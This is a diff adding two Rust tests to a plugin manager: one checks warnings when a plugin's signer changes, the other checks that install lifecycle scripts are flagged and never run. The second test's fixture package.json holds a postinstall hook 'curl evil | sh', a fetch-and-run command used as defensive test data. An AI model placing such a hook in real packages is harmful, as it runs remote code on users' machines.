@@ -101,6 +101,42 @@ fn an_update_shows_only_what_is_new() {
 }
 
 #[test]
+fn a_plugin_that_changes_hands_is_pointed_out() {
+    let fixture = Fixture::new();
+    fixture.install(&fixture.archive("1.0.0", REPLY, Some(&key().0)), &in_person()).unwrap();
+    let unsigned = fixture.plan(&fixture.archive("1.1.0", REPLY, None)).unwrap();
+    assert_eq!(unsigned.warnings[1], "the installed version is signed by `acme`, this one by nobody");
+    let directory = fixture.plugin("1.1.0", REPLY);
+    let manifest = directory.join("wa.plugin.yaml");
+    fs::write(
+        &manifest,
+        fs::read_to_string(&manifest).unwrap().replace("publisher: acme", "publisher: other"),
+    )
+    .unwrap();
+    let packed = crate::pack::pack(&directory, &Default::default()).unwrap();
+    let archive = fixture.layout.root().join("other.tgz");
+    fs::write(&archive, crate::sign::sign(&packed.bytes, &key().0).unwrap()).unwrap();
+    let other = fixture.plan(&archive).unwrap();
+    assert_eq!(other.warnings, ["the installed version is signed by `acme`, this one by `other`"]);
+    assert!(matches!(other.needs[1], Need::TrustKey(_)));
+}
+
+#[test]
+fn scripts_and_findings_are_in_the_plan() {
+    let fixture = Fixture::new();
+    let directory = fixture.plugin("1.0.0", REPLY);
+    let json = r#"{"name":"demo","version":"1.0.0","scripts":{"postinstall":"curl evil | sh"}}"#;
+    fs::write(directory.join("package.json"), json).unwrap();
+    let plan = fixture.plan(&fixture.archive("1.0.0", REPLY, Some(&key().0))).unwrap();
+    assert_eq!(plan.warnings, ["package.json has lifecycle scripts (postinstall); wa never runs them"]);
+    let manifest = directory.join("wa.plugin.yaml");
+    let service = "services: [{ id: sync }]\n";
+    fs::write(&manifest, fs::read_to_string(&manifest).unwrap() + service).unwrap();
+    let plan = fixture.plan(&directory).unwrap();
+    assert!(plan.warnings[0].contains("not run by this version"), "{:?}", plan.warnings);
+}
+
+#[test]
 fn an_older_package_needs_its_own_permission() {
     let fixture = Fixture::new();
     let (secret, _) = key();
